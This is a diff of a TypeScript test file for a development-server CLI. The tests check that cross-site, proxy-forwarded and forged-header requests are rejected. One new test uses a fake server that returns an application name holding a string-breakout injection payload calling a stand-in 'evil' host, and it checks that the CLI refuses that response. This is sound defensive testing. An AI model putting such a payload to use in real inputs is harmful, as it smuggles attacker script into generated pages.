@@ -44,7 +44,7 @@ const allowed = async (origin: string) => {
 const add = async (body: unknown, headers: Record<string, string> = {}, to = server.app) =>
   await to.inject({
     method: 'POST',
-    url: '/frontegg/development/pages',
+    url: '/development/pages',
     headers: { host: 'localhost', ...headers },
     payload: body as object,
   })
@@ -131,12 +131,42 @@ test('what cannot be is said with its cure, and nothing is written or allowed', 
   assert.equal(fs.existsSync(path.join(workplace, 'pier')), false)
 })
 
+test('what answers in place of a server writes nothing into the page, nor onto the terminal', async () => {
+  const other = http
+    .createServer((request, reply) => {
+      const isHello = request.url === '/frontegg/hello'
+      const page = { vendor: 'Quay', application: "x',a:fetch('//evil')+'", added: true }
+      reply
+        .setHeader('content-type', 'application/json')
+        .end(JSON.stringify(isHello ? { product: 'Portico' } : page))
+    })
+    .listen(0, '127.0.0.1')
+  await once(other, 'listening')
+  const elsewhere = `http://127.0.0.1:${(other.address() as AddressInfo).port}`
+  const { code, said } = await create('mole', '--server', elsewhere)
+  other.close()
+  assert.equal(code, 1)
+  assert.match(said, /it names no application/)
+  assert.equal(fs.existsSync(path.join(workplace, 'mole')), false)
+})
+
 test('a page cannot add itself, an origin of elsewhere is not taken, and neither is a caller through a proxy', async () => {
   const body = { origin: 'http://localhost:6300', app: vendor.applicationId }
   for (const mark of [{ origin: 'http://localhost:6300' }, { 'sec-fetch-site': 'cross-site' }])
     assert.equal((await add(body, mark as Record<string, string>)).statusCode, 403)
-  for (const headers of [{ 'x-forwarded-for': '203.0.113.9' }, { host: 'rebound.example' }])
+  for (const headers of [
+    { 'x-forwarded-for': '203.0.113.9' },
+    { 'x-frontegg-middleware': 'true' },
+    { host: 'rebound.example' },
+  ])
     assert.equal((await add(body, headers as Record<string, string>)).statusCode, 421)
+  // What a host forwards: a development server that does so leaves no mark.
+  const forwarded = {
+    method: 'POST',
+    url: '/frontegg/development/pages',
+    headers: { host: 'localhost' },
+  } as const
+  assert.equal((await server.app.inject({ ...forwarded, payload: body })).statusCode, 421)
   const origins = [
     'https://evil.example',
     'http://localhost.evil.example',
